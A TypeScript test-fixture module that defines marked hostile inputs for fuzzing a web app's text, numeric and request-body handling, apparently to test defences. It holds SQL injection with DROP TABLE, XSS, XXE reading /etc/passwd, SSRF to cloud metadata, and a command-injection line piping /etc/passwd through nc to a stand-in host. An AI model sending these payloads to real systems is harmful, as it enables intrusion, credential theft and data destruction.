/** A word in every hostile input, to find it where it must not be. */
export const MARK = 'Zqxhostile';

/** OWASP's usual inputs for a text field, each with the mark in it. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  SQL: `${MARK}' OR '1'='1'; DROP TABLE threads; --`,
  'NoSQL operators': `{"$gt":"","$where":"${MARK}"}`,
  'a script': `<script>alert('${MARK}')</script>`,
  'an attribute': `"><img src=x onerror="${MARK}()">`,
  'an URL of JavaScript': `javascript:${MARK}()`,
  'a path out of here': `../../../../etc/passwd/${MARK}`,
  'a path, encoded twice': `%252e%252e%252f${MARK}`,
  'a template': `\${7*7}{{7*7}}<%= ${MARK} %>#{7*7}`,
  'a URL of instance metadata': `http://169.254.169.254/latest/meta-data/${MARK}`,
  'an entity': `<!DOCTYPE x [<!ENTITY ${MARK} SYSTEM "file:///etc/passwd">]><x>&${MARK};</x>`,
  'a command': `; cat /etc/passwd | nc ${MARK} 80 $(id) \`id\``,
  'another address to go to': `//${MARK}.example/%2f..`,
  'a header': `x\r\nSet-Cookie: ${MARK}=1\r\n\r\n<html>`,
  'the prototype': `__proto__[${MARK}]`,
  'a format': `%s%n%x%99999d${MARK}{0}`,
  'letters that look alike': `аcmе-us.${MARK}\u200d`,
  'text that runs to the left': `\u202e${MARK}\u2066\u202c`,
  'a formula': `=HYPERLINK("http://x.example/${MARK}","open")`,
  'a slow pattern': `${'a'.repeat(5_000)}!${MARK}`,
  'a null byte': `acme-us\u0000${MARK}`,
  'a terminal sequence': `\u001b]0;${MARK}\u0007\u001b[2J`,
  'a huge number': `1e999${MARK}`,
};

/** Values that are not numbers, for numeric fields. */
export const HOSTILE_NUMBERS = ['-1', '1e309', 'NaN', '0x10000000000', '9'.repeat(400), '1.5', '١'];

/** Bodies that are not valid requests, with their content type. */
export const HOSTILE_BODIES: Readonly<Record<string, { readonly type: string; readonly body: Uint8Array }>> =
  Object.fromEntries(
    Object.entries<[string, string | Uint8Array]>({
      'no JSON': ['application/json', `{"type":"acknowledged","by":"li",${MARK}`],
      'JSON that ends early': ['application/json', '{"type":"acknowledged","by":"l'],
      'a text': ['text/plain', MARK],
      'XML with an entity': [
        'application/xml',
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${MARK}</x>`,
      ],
      'a form of parts that is broken': [
        `multipart/form-data; boundary=${MARK}`,
        `--${MARK}\r\nContent-Dispo`,
      ],
      'bytes that are no text': [
        'application/x-www-form-urlencoded',
        Uint8Array.of(0x61, 0x3d, 0xff, 0xfe, 0xc0),
      ],
      'null bytes': ['application/json', `{"type":"snoozed\u0000${MARK}"}`],
      'JSON as deep as it goes': ['application/json', '['.repeat(30_000) + ']'.repeat(30_000)],
      'a huge number': ['application/json', `{"type":"snoozed","by":"li","until":1e999,"x":"${MARK}"}`],
      'the prototype': [
        'application/json',
        `{"__proto__":{"by":"li"},"constructor":{"prototype":{"by":"li"}},"type":"acknowledged","x":"${MARK}"}`,
      ],
      'operators in the place of texts': [
        'application/json',
        `{"type":"acknowledged","by":{"$ne":"${MARK}"}}`,
      ],
      'a key twice, the last one wrong': [
        'application/json',
        `{"type":"acknowledged","by":"li","by":"${MARK}"}`,
      ],
      'a field of a megabyte': [
        'application/json',
        JSON.stringify({ by: 'li', reason: MARK.repeat(100_000) }),
      ],
      'a hundred thousand fields': [
        'application/x-www-form-urlencoded',
        Array.from({ length: 100_000 }, (_, index) => `${MARK}${index}=1`).join('&'),
      ],
      'eleven megabytes': ['application/octet-stream', new Uint8Array(11 * 1024 * 1024)],
      'a form that says two things': [
        'application/x-www-form-urlencoded',
        `act=acknowledged&person=li&act=no-response-needed&reason=${MARK}`,
      ],
      'an act that is none': ['application/x-www-form-urlencoded', `act=${MARK}&person=li`],
    }).map(([name, [type, body]]) => [name, { type, body: Buffer.from(body) }]),
  );
